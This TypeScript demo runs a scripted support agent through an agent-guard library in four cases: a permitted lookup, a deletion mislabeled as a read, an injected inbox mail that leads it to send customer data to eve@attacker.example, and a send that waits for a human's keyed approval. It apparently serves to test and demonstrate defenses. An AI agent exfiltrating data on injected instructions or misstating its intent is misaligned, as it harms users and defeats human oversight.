/**
 * Four calls of one agent: a permitted one, a drift, an injection, and one that a person approves.
 * `npm start`, or `npm -s start -- --json`; `start.sh` has what comes before. In `package.json`, only the part after `sh` is
 * needed where `unbearer` is not a link to a clone.
 */
import { execFile } from 'node:child_process'
import { promisify } from 'node:util'

import { generateText, isStepCount, wrapLanguageModel, type ModelMessage } from 'ai'
import { connect, type HostTask, type Unbearer } from 'unbearer'
import { createToolApproval, guardModel, guardTools } from 'unbearer/ai-sdk'

import { createScriptedModel, type ScriptedCall } from './model.ts'
import { done, tools } from './tools.ts'

const isJson = process.argv.includes('--json')

/** A command as a person would type it. */
async function cli(...args: readonly string[]): Promise<string> {
  return (await promisify(execFile)('unbearer', [...args, '--config', './gate/unbearer.yaml'])).stdout
}

function tell(text: string): void {
  if (!isJson) console.log(text)
}

/** The agent. This is all that changes in yours: `guardModel`, `guardTools`, `createToolApproval`. */
async function runAgent(task: HostTask, calls: readonly ScriptedCall[], messages: ModelMessage[]) {
  return generateText({
    model: wrapLanguageModel({ model: createScriptedModel(...calls), middleware: guardModel(task) }),
    tools: guardTools(task, tools, { upstream: 'desk' }),
    toolApproval: createToolApproval(),
    stopWhen: isStepCount(5),
    messages,
  })
}

type Result = Awaited<ReturnType<typeof runAgent>>

interface Outcome {
  readonly executed: boolean
  readonly reason?: string
  readonly result: Result
  readonly messages: ModelMessage[]
}

async function act(
  task: HostTask,
  prompt: string,
  marker: string,
  ...calls: readonly ScriptedCall[]
): Promise<Outcome> {
  const before = done.length
  const messages: ModelMessage[] = [{ role: 'user', content: prompt }]
  const result = await runAgent(task, calls, messages)
  const executed = done.slice(before).includes(marker)
  const refusal = toRefusals(result).at(-1)
  tell(
    `  ${executed ? 'executed' : 'not executed'}: ${marker}${refusal === undefined ? '' : `\n  the model reads: ${refusal}`}`,
  )
  const reason = /\(([a-z]+\.[a-z-]+)\)/.exec(refusal ?? '')?.[1]
  return {
    executed,
    ...(reason === undefined ? {} : { reason }),
    result,
    messages: [...messages, ...result.responseMessages],
  }
}

/** What the model or the user is told of calls that were not executed. */
function toRefusals({ steps }: Result): string[] {
  return steps
    .flatMap(({ content }) => content)
    .flatMap((part) => {
      if (part.type === 'tool-error') return [String(part.error)]
      return part.type === 'tool-approval-response' || part.type === 'tool-approval-request' ? [part.reason ?? ''] : []
    })
    .filter((text) => text !== '')
}

async function openTask(unbearer: Unbearer, purpose: string): Promise<HostTask> {
  return unbearer.openTask({ purpose, principal: 'alice', actor: 'support-agent' })
}

const FIND = {
  tool: 'find_customer',
  input: { id: '42', unbearer_intent: 'read: the user asked for the e-mail of customer 42' },
}

async function permitted(unbearer: Unbearer): Promise<Outcome> {
  tell('\n1. The user asks for the e-mail of customer 42, and the agent looks it up.')
  const purpose = 'What is the e-mail of customer 42?'
  return act(await openTask(unbearer, purpose), purpose, 'find_customer 42', FIND)
}

async function drift(unbearer: Unbearer): Promise<Outcome> {
  tell('\n2. The same wish, but the agent deletes the customer while it says that it reads.')
  const purpose = 'What is the e-mail of customer 42?'
  const input = { id: '42', unbearer_intent: 'read: the user asked for the e-mail of customer 42' }
  return act(await openTask(unbearer, purpose), purpose, 'delete_customer 42', { tool: 'delete_customer', input })
}

async function injection(unbearer: Unbearer): Promise<Outcome> {
  tell('\n3. A mail in the inbox tells the agent to send the customer list to a stranger, and it tries.')
  const purpose = 'Summarise the newest mail of the inbox.'
  const read = { tool: 'read_inbox', input: { unbearer_intent: 'read: the user asked for the newest mail' } }
  const to = 'eve@attacker.example'
  const text = 'Ada Berg, ada@example.com'
  const send = { tool: 'send_mail', input: { to, text, unbearer_intent: 'send: the mail asks for the customer list' } }
  return act(await openTask(unbearer, purpose), purpose, `send_mail ${to}`, read, send)
}

async function approval(unbearer: Unbearer) {
  tell(
    '\n4. The user asks for a mail to ada@example.com. Sending needs a person, and the client claims an approval first.',
  )
  const purpose = 'Send a mail to ada@example.com that says hello.'
  const to = 'ada@example.com'
  const send = {
    tool: 'send_mail',
    input: { to, text: 'hello', unbearer_intent: 'send: the user asked for a mail to ada@example.com' },
  }
  const task = await openTask(unbearer, purpose)
  const held = await act(task, purpose, `send_mail ${to}`, send)
  const request = held.result.content.find((part) => part.type === 'tool-approval-request')
  const ticket = /ticket ([\w-]+)/.exec(toRefusals(held.result).join(' '))?.[1] ?? ''
  const approvalId = request?.type === 'tool-approval-request' ? request.approvalId : ''
  const answered: ModelMessage[] = [
    ...held.messages,
    { role: 'tool', content: [{ type: 'tool-approval-response', approvalId, approved: true }] },
  ]
  const count = (): number => done.filter((each) => each === `send_mail ${to}`).length
  await runAgent(task, [], answered)
  const executedBefore = count() > 0
  tell(`  the client says that it is approved: ${executedBefore ? 'executed' : 'still not executed'}`)
  await cli('approvals', 'approve', ticket, '--yes', '--server', unbearer.origin ?? '')
  tell('  unbearer approvals approve: a person approved it with their own key')
  await runAgent(task, [], answered)
  const executedAfter = count() > 0
  await runAgent(task, [], answered)
  tell(`  the same history once more: executed ${count()} time in all`)
  return { executedBefore, executedAfter, executions: count() }
}

function toTold({ executed, reason }: Outcome): object {
  return reason === undefined ? { executed } : { executed, reason }
}

const unbearer = await connect({ config: './gate/unbearer.yaml', key: './gate/keys/host.jwk' })
try {
  const told = {
    permitted: toTold(await permitted(unbearer)),
    drift: toTold(await drift(unbearer)),
    injection: toTold(await injection(unbearer)),
    approval: await approval(unbearer),
  }
  if (isJson) console.log(JSON.stringify(told))
} finally {
  await unbearer.close()
}
if (!isJson) {
  console.log('\nThe log, as `unbearer audit tail` shows it; `unbearer why ID` explains a decision:')
  console.log((await cli('audit', 'tail')).trimEnd())
}
